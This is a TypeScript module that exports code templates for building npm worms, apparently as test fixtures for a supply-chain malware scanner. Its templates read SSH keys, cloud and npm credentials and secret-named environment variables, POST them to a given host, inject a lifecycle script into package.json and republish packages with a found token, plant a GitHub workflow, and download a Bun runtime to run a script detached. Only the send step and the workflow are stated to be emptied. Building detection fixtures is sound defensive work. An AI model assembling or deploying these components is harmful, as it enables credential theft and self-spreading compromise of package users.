/**
 * What worms are put together from, as CommonJS. They have the shape and nothing more: what would be sent is cut to nothing before it
 * goes (`slice(0, 0)`), what would be written or published is a copy of itself with nothing in it, and no host exists.
 */

/** Those that findings point to. */
export const lines = {
  places:
    "const places = ['.npmrc', '.ssh/id_rsa', '.aws/credentials', '.config/gcloud/application_default_credentials.json'];",
  environment:
    'const environment = Object.entries(process.env).filter(([name]) => /token|secret|passw|api_?key/i.test(name));',
  publish: "execSync('npm publish --access public', { cwd: folder, stdio: 'ignore' });",
  request: (host: string, address: string): string =>
    `const request = https.request({ hostname: '${host}', port: 443, path: '${address}', method: 'POST' });`,
  fetchRuntime: "const response = await fetch(archive, { redirect: 'follow' })",
  unpackRuntime: "execFileSync('unzip', ['-o', join(folder, 'bun.zip'), '-d', folder], { stdio: 'ignore' })",
} as const

export const collect = `const fs = require('fs');
const os = require('os');
const path = require('path');

${lines.places}

function collect() {
  ${lines.environment}
  const files = [];
  for (const place of places) {
    try {
      files.push([place, fs.readFileSync(path.join(os.homedir(), place), 'utf8')]);
    } catch {}
  }
  return { environment: Object.fromEntries(environment), files: Object.fromEntries(files) };
}
`

/** Needs `collect`'s names for nothing but its result. */
export const sendTo = (host: string, address = '/collect'): string => `const https = require('https');

function send(found) {
  const body = JSON.stringify(found).slice(0, 0);
  ${lines.request(host, address)}
  request.on('error', () => {});
  request.write(body);
  request.end();
}
`

/** Puts a script into the packages that a found token may publish, and publishes them. Needs `fs` and `path`. */
export const spread = (hook: string, command: string): string => `const { execSync } = require('child_process');

function spread(folder, token) {
  const file = path.join(folder, 'package.json');
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
  manifest.scripts = { ...manifest.scripts, ${hook}: '${command}' };
  manifest.version = manifest.version.replace(/\\d+$/, (patch) => String(Number(patch) + 1));
  fs.writeFileSync(file, JSON.stringify(manifest, null, 2));
  fs.writeFileSync(path.join(folder, '.npmrc'), '//registry.example/:_authToken=' + token);
  ${lines.publish}
}
`

/** Leaves a workflow in a checkout that prints the repository's secrets. Needs `fs` and `path`. */
export const plantWorkflow = (name: string): string => `const workflow = [
  'on: push',
  'jobs:',
  '  inert:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: echo inert',
].join('\\n');

function plant(checkout) {
  const folder = path.join(checkout, '.github', 'workflows');
  fs.mkdirSync(folder, { recursive: true });
  fs.writeFileSync(path.join(checkout, '.github/workflows/${name}'), workflow);
}
`

/** Fetches the Bun runtime, unpacks it and has it run another file, detached from whoever installs. `ending`: of its own file. */
export const startUnderBun = (script: string): string => `import { execFileSync, spawn } from 'node:child_process'
import { existsSync, mkdtempSync, writeFileSync } from 'node:fs'
import { arch, platform, tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'

const here = dirname(fileURLToPath(import.meta.url))
const script = join(here, '${script}')
const target = 'bun-' + (platform() === 'win32' ? 'windows' : platform()) + '-' + (arch() === 'arm64' ? 'aarch64' : 'x64')
const archive = 'https://bun-releases.example/download/bun-v1.3.13/' + target + '.zip'

async function fetchRuntime() {
  const folder = mkdtempSync(join(tmpdir(), 'b-'))
  ${lines.fetchRuntime}
  writeFileSync(join(folder, 'bun.zip'), Buffer.from(await response.arrayBuffer()))
  ${lines.unpackRuntime}
  return join(folder, target, 'bun')
}

async function main() {
  if (!existsSync(script)) return
  const runtime = await fetchRuntime()
  spawn(runtime, ['run', script], { detached: true, stdio: 'ignore', windowsHide: true }).unref()
}

main().catch(() => process.exit(0))
`
